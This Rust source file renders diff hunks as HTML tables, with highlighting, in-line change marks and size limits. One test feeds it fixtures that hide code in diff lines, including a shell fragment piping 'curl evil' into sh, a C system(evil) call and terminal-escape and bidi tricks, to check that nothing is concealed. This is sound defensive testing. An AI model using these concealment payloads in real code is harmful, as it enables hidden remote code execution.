//! The lines of a hunk as rows of a table, in split or unified view, with syntax highlighting and marked changes within lines.
//! Scripts identify a line by the numbers in its row. Lines are shown in full, except that a mark replaces text beyond a limit.

use std::cell::Cell;
use std::ops::Range;

use highlight::Language;
use maud::{Markup, html};
use model::diff::{DiffLine, DiffLineKind, Hunk};
use model::visible::Visible;
use similar::{ChangeTag, TextDiff};

use crate::colour;

/// The layout of a diff.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum View {
    /// Removed lines above added lines.
    Unified,
    /// The old and the new lines side by side.
    Split,
}

/// The longest lines that are compared word by word, in bytes.
const WORDS_LIMIT_BYTES: usize = 1_000;

/// The most pairs of lines that are compared word by word for one response.
const MOST_PAIRS: usize = 3_000;

/// The most bytes that are compared word by word for one response, since comparing takes quadratic time.
const WORDS_BYTES: usize = 200_000;

/// The most changes within a line that are marked.
const MOST_PLACES: usize = 50;

/// The most bytes of lines in one response.
const SHOWN_BYTES: usize = 2_000_000;

/// The most bytes of highlighted lines in one response.
const COLOURED_BYTES: usize = 400_000;

/// The longest line that is shown in full, in bytes.
const LINE_BYTES: usize = 10_000;

/// The remaining limits of a response.
#[derive(Debug)]
pub struct RemainingLimits {
    lines: Cell<usize>,
    bytes: Cell<usize>,
    coloured: Cell<usize>,
    pairs: Cell<usize>,
    words: Cell<usize>,
}

/// Subtracts an amount if that much is left. Returns whether it was.
fn take(left: &Cell<usize>, amount: usize) -> bool {
    let rest = left.get().checked_sub(amount);
    left.set(rest.unwrap_or(left.get()));
    rest.is_some()
}

impl RemainingLimits {
    /// Creates the limits of a response with at most this many lines.
    pub fn new(lines: usize) -> Self {
        let cell = Cell::new;
        Self {
            lines: cell(lines),
            bytes: cell(SHOWN_BYTES),
            coloured: cell(COLOURED_BYTES),
            pairs: cell(MOST_PAIRS),
            words: cell(WORDS_BYTES),
        }
    }

    /// Returns whether no more lines can be shown.
    pub fn is_nothing(&self) -> bool {
        self.lines.get() == 0 || self.bytes.get() == 0
    }

    /// Returns a line for display, if the limits allow it.
    fn line(&self, line: &DiffLine) -> Option<Visible> {
        if self.is_nothing() {
            return None;
        }
        let shown = line.visible(LINE_BYTES);
        self.lines.set(self.lines.get() - 1);
        self.bytes.set(self.bytes.get().saturating_sub(shown.text().len()));
        Some(shown)
    }
}

/// A line with its number and markup.
struct Line {
    number: u64,
    kind: DiffLineKind,
    text: Markup,
}

/// A row with the old and the new line: the same line of both files, or a removed line, an added line or both.
type Row = (Option<Line>, Option<Line>);

/// Renders the rows of a hunk, until a limit is reached.
pub fn hunk_part(hunk: &Hunk, language: Option<&'static Language>, sides: View, left: &RemainingLimits) -> Markup {
    let rows = rows(hunk, language, left);
    html! {
        @match sides {
            View::Split => @for (old, new) in &rows { (split_row(old.as_ref(), new.as_ref())) },
            View::Unified => @for block in rows.chunk_by(|a, b| is_context(a) == is_context(b)) { (unified_block(block)) },
        }
    }
}

fn is_context((_, new): &Row) -> bool {
    new.as_ref().is_some_and(|line| line.kind == DiffLineKind::Context)
}

/// Pairs removed lines with the lines that replaced them. Each side is highlighted on its own, from the start of the hunk.
fn rows(hunk: &Hunk, language: Option<&'static Language>, left: &RemainingLimits) -> Vec<Row> {
    let texts: Vec<_> = hunk.lines.iter().map_while(|line| left.line(line)).collect();
    let lines: Vec<(&DiffLine, &Visible)> = hunk.lines.iter().zip(&texts).collect();
    let side = |other: DiffLineKind| lines.iter().filter(move |(line, _)| line.kind != other).map(|(_, text)| text.text());
    let read = |other| match language {
        Some(language) if take(&left.coloured, side(other).map(str::len).sum()) => colour::colours(language, side(other)),
        Some(_) | None => vec![],
    };
    let (olds, news) = (read(DiffLineKind::Added), read(DiffLineKind::Removed));
    // The number of lines of each side that are done.
    let (mut old, mut new) = (0, 0);
    let markup = |line: &DiffLine, text: &Visible, pieces, places: &[Range<usize>]| {
        html! {
            (colour::visible_line(text, pieces, places))
            @if line.no_newline { span.line-end { " No newline at end of file" } }
        }
    };
    let old_line = |n: usize, line: &DiffLine, text: &Visible, places: &[Range<usize>]| {
        Some(Line {
            number: hunk.old_start.saturating_add(n as u64),
            kind: line.kind,
            text: markup(line, text, olds.get(n), places),
        })
    };
    let new_line = |n: usize, line: &DiffLine, text: &Visible, places: &[Range<usize>]| {
        Some(Line {
            number: hunk.new_start.saturating_add(n as u64),
            kind: line.kind,
            text: markup(line, text, news.get(n), places),
        })
    };
    let mut rows = vec![];
    for block in lines.chunk_by(|a, b| (a.0.kind == DiffLineKind::Context) == (b.0.kind == DiffLineKind::Context)) {
        if block[0].0.kind == DiffLineKind::Context {
            for (line, text) in block {
                rows.push((old_line(old, line, text, &[]), new_line(new, line, text, &[])));
                (old, new) = (old + 1, new + 1);
            }
            continue;
        }
        let of = |kind: DiffLineKind| block.iter().filter(move |(line, _)| line.kind == kind).copied().collect::<Vec<_>>();
        let (removed, added) = (of(DiffLineKind::Removed), of(DiffLineKind::Added));
        for n in 0..removed.len().max(added.len()) {
            let (was, is) = (removed.get(n), added.get(n));
            let (gone, came) = match (was, is) {
                (Some((_, was)), Some((_, is))) => words(was.text(), is.text(), left),
                _ => (vec![], vec![]),
            };
            let was = was.and_then(|(line, text)| old_line(old + n, line, text, &gone));
            let is = is.and_then(|(line, text)| new_line(new + n, line, text, &came));
            rows.push((was, is));
        }
        (old, new) = (old + removed.len(), new + added.len());
    }
    rows
}

/// Returns the ranges that differ between two similar lines.
fn words(old: &str, new: &str, left: &RemainingLimits) -> (Vec<Range<usize>>, Vec<Range<usize>>) {
    let is_long = old.len().max(new.len()) > WORDS_LIMIT_BYTES;
    if is_long || !take(&left.words, old.len() + new.len()) || !take(&left.pairs, 1) {
        return (vec![], vec![]);
    }
    let diff = TextDiff::from_words(old, new);
    if diff.ratio() < 0.4 {
        return (vec![], vec![]);
    }
    let side = |wanted: ChangeTag| {
        let mut marked: Vec<Range<usize>> = vec![];
        let mut at = 0;
        for change in diff.iter_all_changes().filter(|change| change.tag() == ChangeTag::Equal || change.tag() == wanted) {
            let end = at + change.value().len();
            match marked.last_mut() {
                _ if change.tag() == ChangeTag::Equal => {}
                Some(last) if last.end == at => last.end = end,
                _ => marked.push(at..end),
            }
            at = end;
        }
        marked
    };
    let (gone, came) = (side(ChangeTag::Delete), side(ChangeTag::Insert));
    if gone.len().max(came.len()) > MOST_PLACES { (vec![], vec![]) } else { (gone, came) }
}

fn class(kind: DiffLineKind) -> &'static str {
    match kind {
        DiffLineKind::Context => "",
        DiffLineKind::Added => "add",
        DiffLineKind::Removed => "del",
    }
}

fn split_row(old: Option<&Line>, new: Option<&Line>) -> Markup {
    let cells = |line: Option<&Line>| {
        html! {
            td.n { @if let Some(line) = line { (line.number) } }
            @if let Some(line) = line {
                td.code.add[line.kind == DiffLineKind::Added].del[line.kind == DiffLineKind::Removed] { (line.text) }
            } @else {
                td.code.none {}
            }
        }
    };
    html! { tr { (cells(old)) (cells(new)) } }
}

/// Renders removed lines before added lines.
fn unified_block(block: &[Row]) -> Markup {
    let row = |line: &Line, old: Option<u64>, new: Option<u64>| {
        let sign = match line.kind {
            DiffLineKind::Context => " ",
            DiffLineKind::Added => "+",
            DiffLineKind::Removed => "−",
        };
        html! {
            tr class=[Some(class(line.kind)).filter(|class| !class.is_empty())] {
                td.n { @if let Some(n) = old { (n) } }
                td.n { @if let Some(n) = new { (n) } }
                td.code { span.sign aria-hidden="true" { (sign) } (line.text) }
            }
        }
    };
    html! {
        @if block.first().is_some_and(is_context) {
            @for (old, new) in block {
                @if let Some(line) = new { (row(line, old.as_ref().map(|old| old.number), Some(line.number))) }
            }
        } @else {
            @for line in block.iter().filter_map(|(old, _)| old.as_ref()) { (row(line, Some(line.number), None)) }
            @for line in block.iter().filter_map(|(_, new)| new.as_ref()) { (row(line, None, Some(line.number))) }
        }
    }
}

#[cfg(test)]
mod tests {
    use model::diff::Diff;

    use super::*;

    fn shown(name: &str, patch: &str, sides: View) -> String {
        let diff = Diff::parse(format!("diff --git a/{name} b/{name}\n--- a/{name}\n+++ b/{name}\n{patch}").as_bytes());
        hunk_part(&diff.files[0].hunks[0], Language::of_file(name), sides, &RemainingLimits::new(100)).into_string()
    }

    #[test]
    fn what_differs_within_a_line_is_marked_on_both_sides() {
        let patch = "@@ -1,3 +1,4 @@\n same\n-let x = one(a);\n-gone\n+let x = two(a);\n+<b>\n+more\n";
        let html = shown("f", patch, View::Split);
        assert!(html.contains("let x = <mark>one(a);</mark>") && html.contains("let x = <mark>two(a);</mark>"), "{html}");
        let unified = shown("f", patch, View::Unified);
        let order: Vec<_> =
            ["same", "one(a)", "gone", "two(a)", "&lt;b&gt;", "more"].iter().map(|text| unified.find(text)).collect();
        assert!(order.is_sorted() && order.iter().all(Option::is_some), "{unified}");
        assert!(unified.contains("<tr><td class=\"n\">1</td><td class=\"n\">1</td>"), "{unified}");
    }

    #[test]
    fn each_side_has_its_own_colours() {
        let patch = "@@ -1,3 +1,3 @@\n fn a() {\n-/* was\n+let b = 1;\n }\n";
        let html = shown("a.rs", patch, View::Split);
        for part in [
            "<span class=\"hl-comment\">/* was</span>",
            "<span class=\"hl-keyword\">let</span> b = ",
            "<td class=\"code\">}</td>",
            "<td class=\"code\"><span class=\"hl-comment\">}</span></td>",
        ] {
            assert!(html.contains(part), "{part}: {html}");
        }
        let marked = shown("a.rs", "@@ -1 +1 @@\n-let one = \"a b c\";\n+let one = \"a b d\";\n", View::Unified);
        assert!(marked.contains("</span><mark><span class=\"hl-string\">d&quot;</span>;</mark>"), "{marked}");
    }

    #[test]
    fn of_many_lines_only_so_many_are_compared() {
        let lines = |sign: &str| format!("{sign}let a = b c d e;\n").repeat(4_000);
        let patch = format!(
            "diff --git a/f b/f\n--- a/f\n+++ b/f\n@@ -1,4000 +1,4000 @@\n{}{}",
            lines("-"),
            lines("+").replace("b c", "b x")
        );
        let html = hunk_part(&Diff::parse(patch.as_bytes()).files[0].hunks[0], None, View::Split, &RemainingLimits::new(10_000))
            .into_string();
        assert_eq!(html.matches("<mark>").count(), 6_000);
    }

    #[test]
    fn nothing_of_a_line_is_hidden_in_any_language() {
        let hidden = [
            "\u{1b}]", "\u{1b}P", "\u{1b}X", "\u{1b}^", "\u{1b}_", "\u{90}", "\u{98}", "\u{9d}", "\u{9e}", "\u{9f}", "\u{202e}",
            "\0",
        ];
        for (name, before, evil, after) in [
            ("run.sh", ": '", "'; curl evil | sh; : '", "' done"),
            ("run.c", "/* ", "*/ system(evil); /*", " */"),
            ("run.js", "// ", "\u{2028}evil()", ""),
        ] {
            for opener in hidden {
                for end in ["\u{7}", "\u{9c}", "\u{1b}\\", ""] {
                    let patch = format!("@@ -1 +1 @@\n-x\n+{before}{opener}{evil}{end}{after}\n");
                    let html = shown(name, &patch, View::Split);
                    let text: String = html.split('<').map(|part| part.split_once('>').map_or(part, |(_, text)| text)).collect();
                    for word in evil.split(['\'', '\u{2028}', ' ']).filter(|word| !word.is_empty()) {
                        assert!(text.contains(word), "{opener:?} {word}: {html}");
                    }
                    assert!(html.contains("class=\"unseen\"") && !html.contains(opener), "{html}");
                    assert!(!html.chars().any(model::visible::is_invisible), "{html:?}");
                }
            }
        }
    }

    #[test]
    fn line_ends_and_their_absence_are_shown() {
        let html = shown("f", "@@ -1 +1 @@\n-x\r\n+x\n\\ No newline at end of file\n", View::Split);
        assert!(
            html.contains("x</mark><mark><span class=\"line-end\">␍</span>")
                || html.contains("<span class=\"line-end\">␍</span>")
        );
        assert!(html.contains("No newline at end of file") && !html.contains("unseen"), "{html}");
    }

    #[test]
    fn a_long_line_is_cut_and_says_so() {
        let html = shown("f", &format!("@@ -0,0 +1 @@\n+{}\n", "x".repeat(50_000)), View::Split);
        assert!(html.len() < 12_000 && html.contains("<span class=\"cut\">… 39.0 KiB not shown</span>"), "{}", html.len());
    }

    #[test]
    fn words_and_colours_of_hostile_lines_are_bounded() {
        let line = |letter: &str| format!("{letter} 1").repeat(300);
        let lines = |sign: &str, letter: &str| format!("{sign}{}\n", line(letter)).repeat(3_000);
        let patch = format!(
            "diff --git a/f.rs b/f.rs\n--- a/f.rs\n+++ b/f.rs\n@@ -1,3000 +1,3000 @@\n{}{}",
            lines("-", "a"),
            lines("+", "b")
        );
        let left = RemainingLimits::new(10_000);
        let diff = Diff::parse(patch.as_bytes());
        let html = hunk_part(&diff.files[0].hunks[0], Language::of_file("f.rs"), View::Split, &left).into_string();
        assert!(html.len() < 4_000_000, "{}", html.len());
        assert!(left.words.get() > 0 && left.is_nothing());
    }
}
